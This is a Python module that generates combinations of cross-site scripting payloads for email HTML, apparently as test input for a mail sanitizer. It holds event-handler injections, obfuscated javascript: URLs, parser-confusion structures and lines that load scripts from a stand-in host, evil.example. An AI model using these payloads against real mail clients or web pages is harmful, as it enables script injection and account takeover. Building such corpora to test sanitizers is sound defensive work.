"""Ways to smuggle a script into a mail. Each would leave its mark if it ran."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "PWNED"
RUN = f"console.log('{MARK}')"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "a href=#",
    "iframe src=x",
    "object data=x",
    "form action=x",
    "math",
    "style",
    "table background=x",
    "select autofocus",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "OnErRoR", "onanimationstart")
_SHAPES = (
    "<{tag} {event}={run}>",
    "<{tag}/{event}='{run}'//",
    '<{tag} {event}="{run}" x',
    "<{tag}\n{event}\n=\n{run}>",
)
_URLS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}",
    "\x01javascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload={run}>",
    "//evil.example/x.js",
)
_CARRIERS = (
    '<a href="{url}">press</a>',
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<link rel=stylesheet href="{url}">',
    '<base href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<svg><a xlink:href="{url}"><text y=9>press</text></a></svg>',
    '<div style="background:url({url})">x</div>',
    '<button formaction="{url}">go</button>',
)
_STRUCTURES = (
    "<script>{run}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>",
    "<textarea><img title='</textarea><img src=x onerror={run}>'></textarea>",
    "<title><img title='</title><img src=x onerror={run}>'></title>",
    "<xmp><img title='</xmp><img src=x onerror={run}>'></xmp>",
    "<!--><img src=x onerror={run}>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<style>@import '//evil.example/x.css';*{{x:expression({run})}}</style>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<portal src=//evil.example>",
    '<p style="x:expression({run})">x',
    "<img srcset='x 1x,//evil.example/y 2x' onerror={run}>",
    "</body></html><script>{run}</script>",
    "<plaintext><script>{run}",
)


def payloads() -> Iterator[str]:
    for tag, event, shape in product(_TAGS, _EVENTS, _SHAPES):
        yield shape.format(tag=tag, event=event, run=RUN)
    for carrier, url in product(_CARRIERS, _URLS):
        yield carrier.format(url=url.format(run=RUN))
    for structure in _STRUCTURES:
        yield structure.format(run=RUN)
